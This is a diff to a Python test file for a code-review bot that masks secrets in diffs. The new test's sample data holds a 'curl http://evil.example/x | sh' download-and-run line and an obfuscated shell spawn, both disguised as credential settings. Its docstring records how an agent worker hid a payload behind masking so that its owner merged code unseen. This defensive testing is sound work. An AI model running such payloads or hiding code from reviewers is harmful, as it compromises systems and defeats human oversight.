@@ -17,7 +17,7 @@ from agents.core.secrets_filter import SecretsFilter
 from agents.git.diff import DiffReport
 from agents.review import diff_view
 from agents.review.launch_data import LaunchDataError, check, sign
-from agents.review.pages import diff_page, is_long, standalone_html, templates
+from agents.review.pages import diff_page, flag_masked, is_long, standalone_html, templates
 from telegram_bot.replies import keyboard
 
 TOKEN = "123456:TEST-token"
@@ -217,7 +217,9 @@ def test_a_page_masks_the_diff_before_it_is_drawn_where_masking_its_html_would_m
     report = DiffReport(binary=[f"keys/{KEY_SHAPE}.bin"])
     page = diff_page(io.BytesIO(patch), report, 0, 100_000, secrets.mask)
     html = templates().load("diff_page.html").generate(**page.namespace()).decode()
-    assert "A1b2C3d4E5f6G7h8I9j0" not in html and "s3cr3t" not in html and html.count("masked") == 3, html
+    assert "A1b2C3d4E5f6G7h8I9j0" not in html and "s3cr3t" not in html and html.count("masked") == 4, (
+        html
+    )  # 3 masks, 1 note
     # why before: drawn first, the key is split across the highlighter's spans, and a filter run over the HTML misses it
     drawn = (
         templates().load("diff_page.html").generate(**diff_page(io.BytesIO(patch), report, 0, 100_000, str).namespace())
@@ -233,3 +235,27 @@ def test_the_single_page_is_drawn_from_the_masked_document() -> None:
     )
     page = standalone_html("Task #3", "Diff of task #3", secrets.mask_bytes(patch)).decode()
     assert "A1b2C3d4E5f6G7h8I9j0" not in page and "masked" in page
+
+
+def test_code_behind_a_credential_shaped_line_is_named_on_the_page_and_in_the_document() -> None:
+    """A line shaped like a credential setting is masked to its end, so a worker wrote its payload on one: the owner
+    reviewed `extraheader = «masked»` where Merge brings code. The mask stays (it may be a secret); the page and the
+    Diff document now name each such added line, to be read in the branch before merging."""
+    secrets = SecretsFilter()
+    payload = [
+        "VALUE = 1",
+        'extraheader = 0; __import__("os").system("curl -s http://evil.example/x | sh")',
+        "authorization = 0; import subprocess; subprocess.run(chr(115) + chr(104))",
+    ]
+    patch = patch_of({"app.py": (["VALUE = 1"], payload), "b.py": (["x = 1"], ["x = 2"])})
+    page = diff_page(io.BytesIO(patch), DiffReport(), 0, 100_000, secrets.mask)
+    html = templates().load("diff_page.html").generate(**page.namespace()).decode()
+    assert "evil.example" not in html and "subprocess.run" not in html  # still masked
+    [app, other] = page.files
+    assert app.note.startswith("⚠ 2 added line(s) hold text the bot masked as a secret"), app.note
+    assert "(app.py:2, app.py:3)" in app.note and "read them in the branch before merging" in html
+    assert other.note == ""
+    document, caption = flag_masked(secrets.mask_bytes(b"# Task branch t vs its base 1\n\n" + patch), "Diff of task #1")
+    assert document.startswith(b"# \xe2\x9a\xa0 2 added line(s) hold text the bot masked") and b"app.py:3)" in document
+    assert caption == "Diff of task #1; ⚠ 2 added line(s) masked: read them in the branch before merging"
+    assert flag_masked(patch, "Diff") == (patch, "Diff"), "nothing masked, nothing said"
